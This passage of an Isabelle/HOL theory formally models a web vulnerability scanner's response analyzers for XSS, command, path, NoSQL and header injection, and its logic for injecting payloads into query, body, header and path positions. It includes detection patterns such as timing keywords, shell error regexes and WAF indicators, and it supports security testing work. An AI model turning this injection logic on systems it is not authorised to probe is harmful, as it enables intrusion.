                  \<lparr>notes := ''SAFE: The XSS payload was not reflected in the server response''\<rparr>);
             result =
               (if \<not> vulnerable result \<and> status response = 200 \<and> str_includes body payload then
                  (push (warning_sign @ '' Exact payload found in 200 OK response'')
                     (result\<lparr>vulnerable := True, confidence := High\<rparr>))
                  \<lparr>notes := ''VULNERABLE: The exact XSS payload appears in a successful response''\<rparr>
                else result);
             missingHeaders = filter (\<lambda>key. \<not> truthy_header response key) xss_securityHeaders;
             result =
               (if 0 < length missingHeaders \<and> vulnerable result
                then push (''Missing security headers: '' @ join '', '' missingHeaders) result
                else result)
         in (result, m)))\<close>

section \<open>Command injection\<close>

definition timingKeywords :: "string list" where
  "timingKeywords = [''sleep'', ''WAITFOR'', ''ping -c'', ''ping -n'']"

definition cmd_wafIndicators :: "string list" where
  "cmd_wafIndicators = [
      ''you have been blocked'', ''access denied'', ''forbidden'', ''request blocked'',
      ''firewall'', ''cloudflare'', ''akamai'', ''imperva'', ''waf'', ''attack detected'',
      ''malicious request'', ''command injection'', ''invalid request'']"

definition cmd_isWAFBlocked :: "response \<Rightarrow> string \<Rightarrow> bool" where
  "cmd_isWAFBlocked response body =
     (let bodyLower = toLowerCase body in
      if (status response = 403 \<or> status response = 406 \<or> status response = 429) \<and>
         list_ex (\<lambda>indicator. str_includes bodyLower indicator) cmd_wafIndicators
      then True
      else if str_includes bodyLower ''cloudflare ray id'' then True
      else False)"

text \<open>The table \<^verbatim>\<open>errorPatterns\<close> that a call of the analyzer builds for itself.\<close>

definition cmd_errorPatterns :: "regexp list" where
  \<open>cmd_errorPatterns = [
      regexp_literal (''/sh: .*: not found/i'') (seqs [lit (''sh: ''), Star (Sym AnyChar), lit ('': not found'')]) True False,
      regexp_literal (''/bash: .*: command not found/i'') (seqs [lit (''bash: ''), Star (Sym AnyChar), lit ('': command not found'')]) True False,
      regexp_literal (''/cmd'' @ [CHR 0x5C] @ ''.exe.*is not recognized/i'') (seqs [lit (''cmd.exe''), Star (Sym AnyChar), lit (''is not recognized'')]) True False,
      regexp_literal (''/'' @ [CHR 0x5C] @ ''/bin'' @ [CHR 0x5C] @ ''/.*: No such file/i'') (seqs [lit (''/bin/''), Star (Sym AnyChar), lit ('': No such file'')]) True False,
      regexp_literal (''/cannot execute binary file/i'') (lit (''cannot execute binary file'')) True False,
      regexp_literal (''/syntax error near unexpected token/i'') (lit (''syntax error near unexpected token'')) True False]\<close>

definition cmd_analyzeResponse ::
  "modules \<Rightarrow> response \<Rightarrow> string \<Rightarrow> nat option \<Rightarrow> int option \<Rightarrow> analysis \<times> modules" where
  \<open>cmd_analyzeResponse m response payload originalStatus responseTime =
     (let result = new_result;
          body = responseBody response
      in
      if cmd_isWAFBlocked response body then
        (let result = result\<lparr>vulnerable := False, confidence := High\<rparr>;
             result = push (check_mark @ '' WAF/Firewall blocked the malicious request'') result;
             result = result\<lparr>notes := ''PROTECTED: WAF detected and blocked the command injection attempt.''\<rparr>
         in (result, m))
      else if 400 \<le> status response \<and> status response < 500 then
        (let result = result\<lparr>vulnerable := False\<rparr>;
             result = push (''Request rejected with status '' @ show_nat (status response)) result;
             result = result\<lparr>notes := ''Request was rejected - input validation may be in place''\<rparr>
         in (result, m))
      else
        (let (hit, table) = test_first (commandOutputPatterns m) body;
             m = m\<lparr>commandOutputPatterns := table\<rparr>;
             result =
               (case hit of
                  None \<Rightarrow> result
                | Some pattern \<Rightarrow>
                    (push (warning_sign @ '' Command output detected in response'')
                       (result\<lparr>vulnerable := True, confidence := High\<rparr>))
                    \<lparr>notes := ''VULNERABLE: System command output found - '' @ take 50 (source_text pattern)\<rparr>);
             result =
               (case responseTime of
                  None \<Rightarrow> result
                | Some time \<Rightarrow>
                    let isTimingPayload =
                          list_ex (\<lambda>kw. str_includes (toLowerCase payload) (toLowerCase kw)) timingKeywords
                    in
                    if isTimingPayload \<and> 4500 < time then
                      (push (warning_sign @ '' Time-based command injection detected'')
                         (result\<lparr>vulnerable := True, confidence := High\<rparr>))
                      \<lparr>notes := ''VULNERABLE: Response delayed by '' @ show_int time @ ''ms - command executed''\<rparr>
                    else result);
             result =
               (case fst (test_first cmd_errorPatterns body) of
                  None \<Rightarrow> result
                | Some pattern \<Rightarrow>
                    (push (warning_sign @ '' Shell error message in response'')
                       (result\<lparr>vulnerable := True, confidence := Medium\<rparr>))
                    \<lparr>notes := ''VULNERABLE: Shell error indicates command was processed''\<rparr>);
             result =
               (if \<not> vulnerable result then
                  (push ''No command injection indicators found'' result)
                  \<lparr>notes := ''SAFE: No command execution indicators detected in response''\<rparr>
                else result)
         in (result, m)))\<close>

section \<open>Path traversal\<close>

definition path_wafIndicators :: "string list" where
  "path_wafIndicators = [
      ''you have been blocked'', ''access denied'', ''forbidden'', ''request blocked'',
      ''firewall'', ''cloudflare'', ''akamai'', ''imperva'', ''waf'', ''attack detected'',
      ''malicious request'', ''path traversal'', ''directory traversal'', ''invalid request'']"

definition path_isWAFBlocked :: "response \<Rightarrow> string \<Rightarrow> bool" where
  "path_isWAFBlocked response body =
     (let bodyLower = toLowerCase body in
      if (status response = 403 \<or> status response = 406 \<or> status response = 429) \<and>
         list_ex (\<lambda>indicator. str_includes bodyLower indicator) path_wafIndicators
      then True
      else if str_includes bodyLower ''cloudflare ray id'' then True
      else False)"

definition path_analyzeResponse ::
  "modules \<Rightarrow> response \<Rightarrow> string \<Rightarrow> nat option \<Rightarrow> analysis \<times> modules" where
  \<open>path_analyzeResponse m response payload originalStatus =
     (let result = new_result;
          body = responseBody response
      in
      if path_isWAFBlocked response body then
        (let result = result\<lparr>vulnerable := False, confidence := High\<rparr>;
             result = push (check_mark @ '' WAF/Firewall blocked the malicious request'') result;
             result = result\<lparr>notes := ''PROTECTED: WAF detected and blocked the path traversal attempt.''\<rparr>
         in (result, m))
      else if status response = 400 \<or> status response = 403 \<or> status response = 404 then
        (let result = result\<lparr>vulnerable := False\<rparr>;
             result = push (''Request rejected/not found with status '' @ show_nat (status response)) result;
             result = result\<lparr>notes := ''SAFE: Path traversal was blocked or file not found''\<rparr>
         in (result, m))
      else
        (let (hit, table) = test_first (fileContentPatterns m) body;
             m = m\<lparr>fileContentPatterns := table\<rparr>;
             result =
               (case hit of
                  None \<Rightarrow> result
                | Some pattern \<Rightarrow>
                    (push (warning_sign @ '' System/config file content detected'')
                       (result\<lparr>vulnerable := True, confidence := High\<rparr>))
                    \<lparr>notes := ''VULNERABLE: System file content found - '' @ take 50 (source_text pattern)\<rparr>);
             (hit, table) = test_first (path_errorPatterns m) body;
             m = m\<lparr>path_errorPatterns := table\<rparr>;
             result =
               (case hit of
                  None \<Rightarrow> result
                | Some pattern \<Rightarrow>
                    if \<not> vulnerable result then
                      (push (info_sign @ '' Path-related error message detected'') result)
                      \<lparr>notes := ''INFO: Error messages may indicate file system interaction''\<rparr>
                    else result);
             contentType = (case header response ''content-type'' of None \<Rightarrow> [] | Some v \<Rightarrow> v);
             result =
               (if status response = 200 \<and>
                   (str_includes contentType ''octet-stream'' \<or>
                    str_includes contentType ''application/pdf'' \<or>
                    str_includes contentType ''image/'')
                then
                  (push (warning_sign @ '' Binary file content returned'')
                     (result\<lparr>vulnerable := True, confidence := Medium\<rparr>))
                  \<lparr>notes := ''SUSPICIOUS: Binary content returned - possible file disclosure''\<rparr>
                else result);
             result =
               (case originalStatus of
                  None \<Rightarrow> result
                | Some original \<Rightarrow>
                    if status response = 200 \<and> original = 404 then
                      (push (warning_sign @ '' File found after path traversal'')
                         (result\<lparr>vulnerable := True, confidence := Medium\<rparr>))
                      \<lparr>notes := ''VULNERABLE: Traversal payload changed 404 to 200''\<rparr>
                    else result);
             result =
               (if \<not> vulnerable result then
                  (push ''No path traversal indicators found'' result)
                  \<lparr>notes := ''SAFE: No system file content detected in response''\<rparr>
                else result)
         in (result, m)))\<close>

section \<open>NoSQL injection\<close>

definition nosql_wafIndicators :: "string list" where
  "nosql_wafIndicators = [
      ''you have been blocked'', ''access denied'', ''forbidden'', ''firewall'',
      ''cloudflare'', ''waf'', ''attack detected'', ''malicious'']"

definition nosql_isWAFBlocked :: "response \<Rightarrow> string \<Rightarrow> bool" where
  "nosql_isWAFBlocked response body =
     (let bodyLower = toLowerCase body in
      if (status response = 403 \<or> status response = 406 \<or> status response = 429) \<and>
         list_ex (\<lambda>ind. str_includes bodyLower ind) nosql_wafIndicators
      then True
      else if str_includes bodyLower ''cloudflare ray id'' then True
      else False)"

definition nosql_auth_regexp :: regexp where
  "nosql_auth_regexp =
     regexp_literal ''/token|session|jwt|success|authenticated/i''
       (alts [lit ''token'', lit ''session'', lit ''jwt'', lit ''success'', lit ''authenticated''])
       True False"

definition nosql_analyzeResponse ::
  "modules \<Rightarrow> response \<Rightarrow> string \<Rightarrow> nat option \<Rightarrow> analysis \<times> modules" where
  \<open>nosql_analyzeResponse m response payload originalStatus =
     (let result = new_result;
          body = responseBody response
      in
      if nosql_isWAFBlocked response body then
        (let result = push (check_mark @ '' WAF/Firewall blocked the request'') result;
             result = result\<lparr>notes := ''PROTECTED: Request was blocked by security controls''\<rparr>
         in (result, m))
      else if 400 \<le> status response \<and> status response < 500 then
        (let result = push (''Request rejected with status '' @ show_nat (status response)) result;
             result = result\<lparr>notes := ''SAFE: Server rejected the malformed request''\<rparr>
         in (result, m))
      else
        (let (hit, table) = test_first (vulnerabilityPatterns m) body;
             m = m\<lparr>vulnerabilityPatterns := table\<rparr>;
             result =
               (case hit of
                  None \<Rightarrow> result
                | Some pattern \<Rightarrow>
                    (push (warning_sign @ '' NoSQL/MongoDB error message detected'')
                       (result\<lparr>vulnerable := True, confidence := High\<rparr>))
                    \<lparr>notes := ''VULNERABLE: Database error exposed in response''\<rparr>);
             (hit, table) =
               (if status response = 200 then test_first (nosql_successPatterns m) body
                else (None, nosql_successPatterns m));
             m = m\<lparr>nosql_successPatterns := table\<rparr>;
             result =
               (case hit of
                  None \<Rightarrow> result
                | Some pattern \<Rightarrow>
                    if 500 < js_length body \<and> str_includes payload ''$ne'' then
                      (push (warning_sign @ '' Potential data leakage with NoSQL operators'')
                         (result\<lparr>vulnerable := True, confidence := Medium\<rparr>))
                      \<lparr>notes := ''SUSPICIOUS: Large response with injection payload''\<rparr>
                    else result);
             result =
               (if (str_includes payload ''$ne'' \<or> str_includes payload ''$gt'') \<and>
                   status response = 200 \<and> test_literal nosql_auth_regexp body
                then
                  (push (warning_sign @ '' Potential authentication bypass'')
                     (result\<lparr>vulnerable := True, confidence := High\<rparr>))
                  \<lparr>notes := ''VULNERABLE: NoSQL injection may have bypassed authentication''\<rparr>
                else result);
             result =
               (if \<not> vulnerable result then
                  (push ''No NoSQL injection indicators found'' result)
                  \<lparr>notes := ''SAFE: No NoSQL injection vulnerabilities detected''\<rparr>
                else result)
         in (result, m)))\<close>

section \<open>Header injection\<close>

definition header_wafIndicators :: "string list" where
  "header_wafIndicators = [
      ''you have been blocked'', ''access denied'', ''forbidden'', ''firewall'',
      ''cloudflare'', ''waf'', ''attack detected'', ''malicious'']"

definition header_isWAFBlocked :: "response \<Rightarrow> string \<Rightarrow> bool" where
  "header_isWAFBlocked response body =
     (let bodyLower = toLowerCase body in
      if (status response = 403 \<or> status response = 406 \<or> status response = 429) \<and>
         list_ex (\<lambda>ind. str_includes bodyLower ind) header_wafIndicators
      then True
      else if str_includes bodyLower ''cloudflare ray id'' then True
      else False)"

definition header_analyzeResponse ::
  "modules \<Rightarrow> response \<Rightarrow> string \<Rightarrow> nat option \<Rightarrow> analysis \<times> modules" where
  \<open>header_analyzeResponse m response payload originalStatus =
     (let result = new_result;
          body = responseBody response
      in
      if header_isWAFBlocked response body then
        (let result = push (check_mark @ '' WAF/Firewall blocked the request'') result;
             result = result\<lparr>notes := ''PROTECTED: Header manipulation was blocked''\<rparr>
         in (result, m))
      else
        (let result =
               (if (str_includes payload ''%0d%0a'' \<or> str_includes payload [CHR 0x0D, CHR 0x0A]) \<and>
                   (case header response ''set-cookie'' of
                      None \<Rightarrow> False
                    | Some setCookie \<Rightarrow>
                        setCookie \<noteq> [] \<and>
                        (str_includes setCookie ''malicious'' \<or> str_includes setCookie ''evil''))
                then
                  (push (warning_sign @ '' CRLF Injection - Response splitting successful'')
                     (result\<lparr>vulnerable := True, confidence := High\<rparr>))
                  \<lparr>notes := ''VULNERABLE: Attacker can inject arbitrary headers''\<rparr>
                else result);
             result =
               (if (str_includes payload ''<script>'' \<or> str_includes payload ''onerror='') \<and>
                   str_includes body payload
                then
                  (push (warning_sign @ '' Header value reflected in response (XSS)'')
                     (result\<lparr>vulnerable := True, confidence := High\<rparr>))
                  \<lparr>notes := ''VULNERABLE: Header value reflected without sanitization''\<rparr>
                else result);
             result =
               (if (payload = ''evil.com'' \<or> str_includes payload ''127.0.0.1'') \<and>
                   str_includes body payload
                then
                  (push (warning_sign @ '' Host header value reflected in response'')
                     (result\<lparr>vulnerable := True, confidence := High\<rparr>))
                  \<lparr>notes := ''VULNERABLE: Host header is used unsafely in response''\<rparr>
                else result);
             result =
               (if \<not> vulnerable result then
                  (push ''Header injection payload rejected or not reflected'' result)
                  \<lparr>notes := ''SAFE: No header injection vulnerabilities detected''\<rparr>
                else result)
         in (result, m)))\<close>

section \<open>Rate limiting\<close>

definition rate_wafIndicators :: "string list" where
  "rate_wafIndicators = [
      ''you have been blocked'', ''access denied'', ''forbidden'', ''firewall'',
      ''cloudflare'', ''waf'', ''rate limit'', ''too many requests'', ''throttle'',
      ''slow down'', ''try again later'']"

definition rate_isWAFBlocked :: "response \<Rightarrow> string \<Rightarrow> bool" where
  "rate_isWAFBlocked response body =
     (let bodyLower = toLowerCase body in
      if status response = 403 \<or> status response = 429 \<or> status response = 503 then True
      else if list_ex (\<lambda>ind. str_includes bodyLower ind) rate_wafIndicators then True
      else False)"

definition rateLimitHeaders :: "string list" where
  "rateLimitHeaders = [
      ''x-ratelimit-limit'', ''x-ratelimit-remaining'', ''x-ratelimit-reset'',
      ''retry-after'', ''x-rate-limit-limit'', ''ratelimit-limit'']"

definition rate_analyzeResponse ::
  "modules \<Rightarrow> response \<Rightarrow> string \<Rightarrow> nat option \<Rightarrow> int option \<Rightarrow> analysis \<times> modules" where
  \<open>rate_analyzeResponse m response payload originalStatus responseTime =
     (let result = new_result;
          body = responseBody response
      in
      if status response = 429 then
        (let result = result\<lparr>vulnerable := False, confidence := High\<rparr>;
             result = push (check_mark @ '' Rate limiting is active (429 Too Many Requests)'') result;
             result = result\<lparr>notes := ''PROTECTED: Server properly implements rate limiting''\<rparr>
         in (result, m))
      else if rate_isWAFBlocked response body then
        (let result = result\<lparr>vulnerable := False, confidence := High\<rparr>;
             result = push (check_mark @ '' Bot/DDoS protection is active'') result;
             result = result\<lparr>notes := ''PROTECTED: Server has anti-bot/rate limiting measures''\<rparr>
         in (result, m))
      else
        (let foundRateLimitHeaders =
               filter (\<lambda>h. truthy_header response (toLowerCase h)) rateLimitHeaders;
             result =
               (if 0 < length foundRateLimitHeaders then
                  (let result = push (info_sign @ '' Rate limit headers present: '' @
                                        join '', '' foundRateLimitHeaders) result;
                       remaining =
                         (if truthy_header response ''x-ratelimit-remaining''
                          then header response ''x-ratelimit-remaining''
                          else header response ''x-rate-limit-remaining'');
                       result =
                         (case remaining of
                            None \<Rightarrow> result
                          | Some v \<Rightarrow> push (''Remaining requests: '' @ v) result)
                   in result\<lparr>notes := ''INFO: Rate limiting headers detected - server may have protection''\<rparr>)
                else if status response = 200 then
                  (push (warning_sign @ '' No rate limit headers in response'') result)
                  \<lparr>notes := ''WARNING: Consider implementing rate limiting for this endpoint''\<rparr>
                else result)
         in (result, m)))\<close>

section \<open>Malformed payloads\<close>

definition malformed_analyzeResponse ::
  "modules \<Rightarrow> response \<Rightarrow> string \<Rightarrow> nat option \<Rightarrow> analysis \<times> modules" where
  \<open>malformed_analyzeResponse m response payload originalStatus =
     (let result = new_result;
          body = responseBody response
      in
      if status response = 400 then
        (let result = result\<lparr>vulnerable := False\<rparr>;
             result = push (check_mark @ '' Server returns 400 Bad Request for malformed data'') result;
             result = result\<lparr>notes := ''GOOD: Server properly validates input''\<rparr>;
             (hit, table) = test_first (verboseErrorPatterns m) body;
             m = m\<lparr>verboseErrorPatterns := table\<rparr>;
             result =
               (case hit of
                  None \<Rightarrow> result
                | Some pattern \<Rightarrow>
                    (push (warning_sign @ '' Error response contains verbose debug information'') result)
                    \<lparr>notes := ''WARNING: Error messages may leak implementation details''\<rparr>)
         in (result, m))
      else if status response = 500 then
        (let result = result\<lparr>vulnerable := True, confidence := Medium\<rparr>;
             result = push (warning_sign @ '' Server crashed with 500 error'') result;
             result = result\<lparr>notes := ''VULNERABLE: Malformed input causes server error''\<rparr>;
             (hit, table) = test_first (verboseErrorPatterns m) body;
             m = m\<lparr>verboseErrorPatterns := table\<rparr>;
             result =
               (case hit of
                  None \<Rightarrow> result
                | Some pattern \<Rightarrow>
                    (push (warning_sign @ '' Stack trace or debug info exposed'')
                       (result\<lparr>confidence := High\<rparr>))
                    \<lparr>notes := ''VULNERABLE: Server exposes internal error details''\<rparr>)
         in (result, m))
      else
        (let (hit, table) = test_first (verboseErrorPatterns m) body;
             m = m\<lparr>verboseErrorPatterns := table\<rparr>;
             result =
               (case hit of
                  None \<Rightarrow> result
                | Some pattern \<Rightarrow>
                    (push (warning_sign @ '' Verbose error information detected'')
                       (result\<lparr>vulnerable := True, confidence := Medium\<rparr>))
                    \<lparr>notes := ''VULNERABLE: Server exposes implementation details''\<rparr>);
             result =
               (if \<not> vulnerable result then
                  (push ''Server handled malformed payload gracefully'' result)
                  \<lparr>notes := ''SAFE: Server responded with '' @ show_nat (status response)\<rparr>
                else result)
         in (result, m)))\<close>

section \<open>HTTP methods\<close>

definition webdavMethods :: "string list" where
  "webdavMethods = [''PROPFIND'', ''PROPPATCH'', ''MKCOL'', ''COPY'', ''MOVE'']"

definition dangerousMethods :: "string list" where
  "dangerousMethods = [''TRACE'', ''TRACK'', ''DEBUG'']"

definition method_analyzeResponse ::
  "modules \<Rightarrow> response \<Rightarrow> string \<Rightarrow> nat option \<Rightarrow> analysis \<times> modules" where
  \<open>method_analyzeResponse m response payload originalStatus =
     (let result = new_result;
          testedMethod = payload
      in
      if status response = 405 then
        (let result = result\<lparr>vulnerable := False\<rparr>;
             result = push (check_mark @ '' Server properly rejects '' @ testedMethod @ '' with 405'') result;
             result = result\<lparr>notes := ''GOOD: Server enforces allowed HTTP methods''\<rparr>;
             result =
               (case header response ''allow'' of
                  None \<Rightarrow> result
                | Some allow \<Rightarrow>
                    if allow \<noteq> [] then push (''Allowed methods: '' @ allow) result else result)
         in (result, m))
      else if (testedMethod = ''TRACE'' \<or> testedMethod = ''TRACK'') \<and> status response = 200 then
        (let result = result\<lparr>vulnerable := True, confidence := High\<rparr>;
             result = push (warning_sign @ '' '' @ testedMethod @ '' method is enabled'') result;
             result = result\<lparr>notes := ''VULNERABLE: TRACE enabled - Cross-Site Tracing (XST) possible''\<rparr>
         in (result, m))
      else
        (let result =
               (if testedMethod = ''OPTIONS'' \<and> (status response = 200 \<or> status response = 204) then
                  (let result = push (info_sign @ '' OPTIONS method is allowed'') result;
                       result =
                         (case header response ''allow'' of
                            None \<Rightarrow> result
                          | Some allow \<Rightarrow>
                              if allow \<noteq> [] then
                                (let result = push (''Allowed: '' @ allow) result;
                                     allowedDangerous =
                                       filter (\<lambda>method. str_includes (toUpperCase allow) method)
                                         dangerousMethods
                                 in
                                 if 0 < length allowedDangerous then
                                   (push (warning_sign @ '' Dangerous methods allowed: '' @
                                            join '', '' allowedDangerous)
                                      (result\<lparr>vulnerable := True, confidence := Medium\<rparr>))
                                   \<lparr>notes := ''WARNING: Review allowed HTTP methods''\<rparr>
                                 else result)
                              else result)
                   in result\<lparr>notes := (if notes result \<noteq> [] then notes result
                                         else ''INFO: OPTIONS reveals allowed methods'')\<rparr>)
                else result);
             result =
               (if testedMethod \<in> set webdavMethods \<and> (status response = 200 \<or> status response = 207) then
                  (push (warning_sign @ '' WebDAV method '' @ testedMethod @ '' is enabled'')
                     (result\<lparr>vulnerable := True, confidence := High\<rparr>))
                  \<lparr>notes := ''VULNERABLE: WebDAV methods should be disabled''\<rparr>
                else result);
             result =
               (if testedMethod = ''DEBUG'' \<and> status response = 200 then
                  (push (warning_sign @ '' DEBUG method is enabled'')
                     (result\<lparr>vulnerable := True, confidence := High\<rparr>))
                  \<lparr>notes := ''VULNERABLE: Debug endpoint exposed''\<rparr>
                else result);
             result =
               (if length (indicators result) = 0 then
                  (push (testedMethod @ '' method returned '' @ show_nat (status response)) result)
                  \<lparr>notes := ''SAFE: Server handled HTTP method appropriately''\<rparr>
                else result)
         in (result, m)))\<close>

section \<open>Payload size\<close>

definition size_analyzeResponse ::
  "modules \<Rightarrow> response \<Rightarrow> string \<Rightarrow> nat option \<Rightarrow> int option \<Rightarrow> analysis \<times> modules" where
  \<open>size_analyzeResponse m response payload originalStatus responseTime =
     (let result = new_result in
      if status response = 413 then
        (let result = result\<lparr>vulnerable := False\<rparr>;
             result = push (check_mark @ '' Server returns 413 Payload Too Large'') result;
             result = result\<lparr>notes := ''GOOD: Server enforces payload size limits''\<rparr>
         in (result, m))
      else if status response = 400 then
        (let result = result\<lparr>vulnerable := False\<rparr>;
             result = push (check_mark @ '' Server rejects oversized payload with 400'') result;
             result = result\<lparr>notes := ''GOOD: Server validates input size''\<rparr>
         in (result, m))
      else if status response = 408 \<or> status response = 504 then
        (let result = result\<lparr>vulnerable := True, confidence := Medium\<rparr>;
             result = push (warning_sign @ '' Request timed out with large payload'') result;
             result = result\<lparr>notes := ''VULNERABLE: Large payloads may cause DoS''\<rparr>
         in (result, m))
      else if status response = 500 \<or> status response = 502 \<or> status response = 503 then
        (let result = result\<lparr>vulnerable := True, confidence := High\<rparr>;
             result = push (warning_sign @ '' Server error with large payload'') result;
             result = result\<lparr>notes := ''VULNERABLE: Large payload causes server error - DoS vector''\<rparr>
         in (result, m))
      else
        (let result =
               (case responseTime of
                  None \<Rightarrow> result
                | Some time \<Rightarrow>
                    if time \<noteq> 0 \<and> 10000 < time then
                      (push (warning_sign @ '' Very slow response: '' @ show_int time @ ''ms'')
                         (result\<lparr>vulnerable := True, confidence := Medium\<rparr>))
                      \<lparr>notes := ''VULNERABLE: Large payloads cause significant slowdown''\<rparr>
                    else if time \<noteq> 0 \<and> 5000 < time then
                      (push (info_sign @ '' Slow response: '' @ show_int time @ ''ms'') result)
                      \<lparr>notes := ''WARNING: Large payloads cause noticeable slowdown''\<rparr>
                    else result);
             result =
               (if status response = 200 then
                  (push (''Server accepted '' @ payload @ '' payload'') result)
                  \<lparr>notes := ''SAFE: Server handled large payload''\<rparr>
                else result)
         in (result, m)))\<close>

section \<open>Endpoint descriptors\<close>

text \<open>The values of JSON. Numbers are integers here.\<close>

datatype jv = JNull | JBool bool | JNum int | JStr string | JArr "jv list" | JObj "(string \<times> jv) list"

text \<open>
  An endpoint descriptor. A mapping is the list of its entries in the order in which
  \<^verbatim>\<open>Object.keys\<close> lists them, with no key twice; \<open>None\<close> is a mapping that is not
  there. The body is absent, a mapping, or raw text.
\<close>

datatype body = NoBody | Mapping "(string \<times> jv) list" | Raw string

record endpoint =
  name :: string
  "method" :: string
  url :: string
  endpoint_headers :: "(string \<times> string) list option"
  body :: body
  queryParams :: "(string \<times> jv) list option"

record variant = endpoint +
  injectionPoint :: string

text \<open>\<^verbatim>\<open>Object.keys(m || {})\<close> and \<^verbatim>\<open>m || {}\<close>\<close>

fun keys :: "(string \<times> 'v) list option \<Rightarrow> string list" where
  "keys None = []"
| "keys (Some m) = map fst m"

fun or_empty :: "(string \<times> 'v) list option \<Rightarrow> (string \<times> 'v) list" where
  "or_empty None = []"
| "or_empty (Some m) = m"

text \<open>
  \<^verbatim>\<open>const modified = JSON.parse(JSON.stringify(endpoint))\<close>, then
  \<^verbatim>\<open>modified.injectionPoint = point\<close>: as a value the copy is the endpoint itself.
\<close>

definition modified :: "endpoint \<Rightarrow> string \<Rightarrow> variant" where
  "modified endpoint point =
     \<lparr>name = name endpoint, method = method endpoint, url = url endpoint,
      endpoint_headers = endpoint_headers endpoint, body = body endpoint,
      queryParams = queryParams endpoint, injectionPoint = point\<rparr>"

section \<open>The injection strategy\<close>

text \<open>
  A thrown error: its \<^verbatim>\<open>code\<close>, its \<^verbatim>\<open>message\<close>, and the response it carries, if
  any.
\<close>

record js_error =
  code :: "string option"
  message :: string
  error_response :: "response option"

definition URIError :: js_error where
  "URIError = \<lparr>code = None, message = ''URI malformed'', error_response = None\<rparr>"

text \<open>
  The variants that \<^verbatim>\<open>injectPayload\<close> returns when it returns. The call itself, which
  can throw, is \<open>injectPayload_call\<close> below.
\<close>

definition injectPayload :: "endpoint \<Rightarrow> string \<Rightarrow> string \<Rightarrow> variant list" where
  "injectPayload endpoint payload location =
     (let injectedEndpoints = [];
          injectedEndpoints =
            (if location = ''query'' \<or> location = ''all'' then
               injectedEndpoints @
               map (\<lambda>key. (modified endpoint (''Query param: '' @ key))
                              \<lparr>queryParams :=
                                 Some (AList.update key (JStr payload) (or_empty (queryParams endpoint)))\<rparr>)
                   (keys (queryParams endpoint)) @
               [(modified endpoint ''Query param: q (injected)'')
                  \<lparr>queryParams :=
                     Some (AList.update ''q'' (JStr payload) (or_empty (queryParams endpoint)))\<rparr>]
             else injectedEndpoints);
          injectedEndpoints =
            (if location = ''body'' \<or> location = ''all'' then
               injectedEndpoints @
               (case body endpoint of
                  Mapping entries \<Rightarrow>
                    map (\<lambda>key. (modified endpoint (''Body param: '' @ key))
                                   \<lparr>body := Mapping (AList.update key (JStr payload) entries)\<rparr>)
                        (map fst entries)
                | _ \<Rightarrow> []) @
               (if method endpoint \<in> set [''POST'', ''PUT'', ''PATCH''] then
                  [(modified endpoint ''Body param: input (injected)'')
                     \<lparr>body :=
                        (case body endpoint of
                           NoBody \<Rightarrow> Mapping [(''input'', JStr payload)]
                         | Mapping entries \<Rightarrow> Mapping (AList.update ''input'' (JStr payload) entries)
                         | Raw text \<Rightarrow> Mapping [(''input'', JStr payload)])\<rparr>]
                else [])
             else injectedEndpoints);
          injectedEndpoints =
            (if location = ''header'' \<or> location = ''all'' then
               injectedEndpoints @
               [(modified endpoint ''Header: X-Test-Input (injected)'')
                  \<lparr>endpoint_headers :=
                     Some (AList.update ''X-Test-Input'' payload (or_empty (endpoint_headers endpoint)))\<rparr>]
             else injectedEndpoints);
          injectedEndpoints =
            (if location = ''path'' \<or> location = ''all'' then
               injectedEndpoints @
               [(let urlBase = (if endsWith (url endpoint) ''/'' then url endpoint
                                else url endpoint @ ''/'')
                 in (modified endpoint ''URL path (appended)'')
                      \<lparr>url := urlBase @ encodeURIComponent payload\<rparr>)]
             else injectedEndpoints);
          injectedEndpoints =
            (if length injectedEndpoints = 0 then
               injectedEndpoints @
               [(modified endpoint ''Query param: test (fallback)'')
                  \<lparr>queryParams :=
                     Some (AList.update ''test'' (JStr payload) (or_empty (queryParams endpoint)))\<rparr>]
             else injectedEndpoints)
      in injectedEndpoints)"

text \<open>
  The call of \<^verbatim>\<open>injectPayload\<close>: \<open>Inr\<close> is the list it returns, \<open>Inl\<close> the error it
  throws. The rule of the path is the only place that can throw, on a payload that
  \<^verbatim>\<open>encodeURIComponent\<close> refuses; nothing in the function catches it.
\<close>

definition injectPayload_call :: "endpoint \<Rightarrow> string \<Rightarrow> string \<Rightarrow> js_error + variant list" where
  "injectPayload_call endpoint payload location =
     (let injectedEndpoints = [];
          injectedEndpoints =
            (if location = ''query'' \<or> location = ''all'' then
               injectedEndpoints @
               map (\<lambda>key. (modified endpoint (''Query param: '' @ key))
                              \<lparr>queryParams :=
                                 Some (AList.update key (JStr payload) (or_empty (queryParams endpoint)))\<rparr>)
                   (keys (queryParams endpoint)) @
               [(modified endpoint ''Query param: q (injected)'')
                  \<lparr>queryParams :=
                     Some (AList.update ''q'' (JStr payload) (or_empty (queryParams endpoint)))\<rparr>]
             else injectedEndpoints);
          injectedEndpoints =
            (if location = ''body'' \<or> location = ''all'' then
               injectedEndpoints @
               (case body endpoint of
                  Mapping entries \<Rightarrow>
                    map (\<lambda>key. (modified endpoint (''Body param: '' @ key))
                                   \<lparr>body := Mapping (AList.update key (JStr payload) entries)\<rparr>)
                        (map fst entries)
                | _ \<Rightarrow> []) @
               (if method endpoint \<in> set [''POST'', ''PUT'', ''PATCH''] then
                  [(modified endpoint ''Body param: input (injected)'')
                     \<lparr>body :=
                        (case body endpoint of
                           NoBody \<Rightarrow> Mapping [(''input'', JStr payload)]
                         | Mapping entries \<Rightarrow> Mapping (AList.update ''input'' (JStr payload) entries)
                         | Raw text \<Rightarrow> Mapping [(''input'', JStr payload)])\<rparr>]
                else [])
             else injectedEndpoints);
          injectedEndpoints =
            (if location = ''header'' \<or> location = ''all'' then
               injectedEndpoints @
               [(modified endpoint ''Header: X-Test-Input (injected)'')
                  \<lparr>endpoint_headers :=
                     Some (AList.update ''X-Test-Input'' payload (or_empty (endpoint_headers endpoint)))\<rparr>]
             else injectedEndpoints)
      in
      case (if location = ''path'' \<or> location = ''all'' then
              (let urlBase = (if endsWith (url endpoint) ''/'' then url endpoint
                              else url endpoint @ ''/'')
               in case encodeURIComponent_call payload of
                    None \<Rightarrow> Inl URIError
                  | Some encoded \<Rightarrow>
                      Inr (injectedEndpoints @
                           [(modified endpoint ''URL path (appended)'')
                              \<lparr>url := urlBase @ encoded\<rparr>]))
            else Inr injectedEndpoints) of
        Inl thrown \<Rightarrow> Inl thrown
      | Inr injectedEndpoints \<Rightarrow>
          Inr (if length injectedEndpoints = 0 then
                 injectedEndpoints @
                 [(modified endpoint ''Query param: test (fallback)'')
                    \<lparr>queryParams :=
